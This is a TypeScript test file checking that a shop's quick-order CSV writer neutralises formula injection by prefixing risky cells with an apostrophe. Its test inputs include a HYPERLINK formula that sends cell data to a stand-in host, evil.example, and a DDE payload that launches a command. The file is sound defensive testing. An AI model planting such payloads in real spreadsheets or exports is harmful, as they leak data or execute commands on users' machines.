import { describe, expect, it } from 'vitest';
import { csvFile } from '../../src/domain/csv-file';
import { failedRowsCsv, parseQuickOrderText } from '../../src/web/components/quick-order/quick-order-csv';

const notFound = (id: number, query: string, quantity = '1') => ({
  id,
  query,
  quantity,
  result: { status: 'NotFound' as const, query, quantity: 1 },
});

describe('no CSV the shop writes starts a cell with a formula', () => {
  it("puts an apostrophe before a quick order row's =, +, -, @, tab or carriage return, and reads it back as typed", () => {
    const typed = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Fix")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = failedRowsCsv(typed.map((query, index) => notFound(index + 1, query)));
    expect(csv.split('\r\n').slice(0, 5)).toEqual([
      'query,quantity,result',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Fix"")",1,No product matches.`,
      `'+cmd|' /C calc'!A0,1,No product matches.`,
      "'-2+3,1,No product matches.",
      "'@SUM(1+1)*cmd,1,No product matches.",
    ]);
    expect(csv).toContain(`\r\n'\t=1+1,1,No product matches.`);
    expect(csv).toContain(`"'\r=1+1",1,No product matches.`);
    const readBack = parseQuickOrderText(csv).map((line) => line.query);
    expect(readBack.slice(0, 4)).toEqual(typed.slice(0, 4));
  });

  it('escapes the quantity cell too: a typed -5 is written as text', () => {
    expect(failedRowsCsv([{ id: 1, query: 'T1', quantity: '-5', result: null }])).toBe(
      'query,quantity,result\r\nT1,\'-5,"Enter a quantity from 1 to 9,999."',
    );
  });

  it('is one writer for the server as for the browser', () => {
    expect(
      csvFile([
        ['line', 'error'],
        ['=1+1', '@bad'],
        ['plain', 'a "quote"'],
      ]),
    ).toBe('line,error\r\n\'=1+1,\'@bad\r\nplain,"a ""quote"""');
  });
});
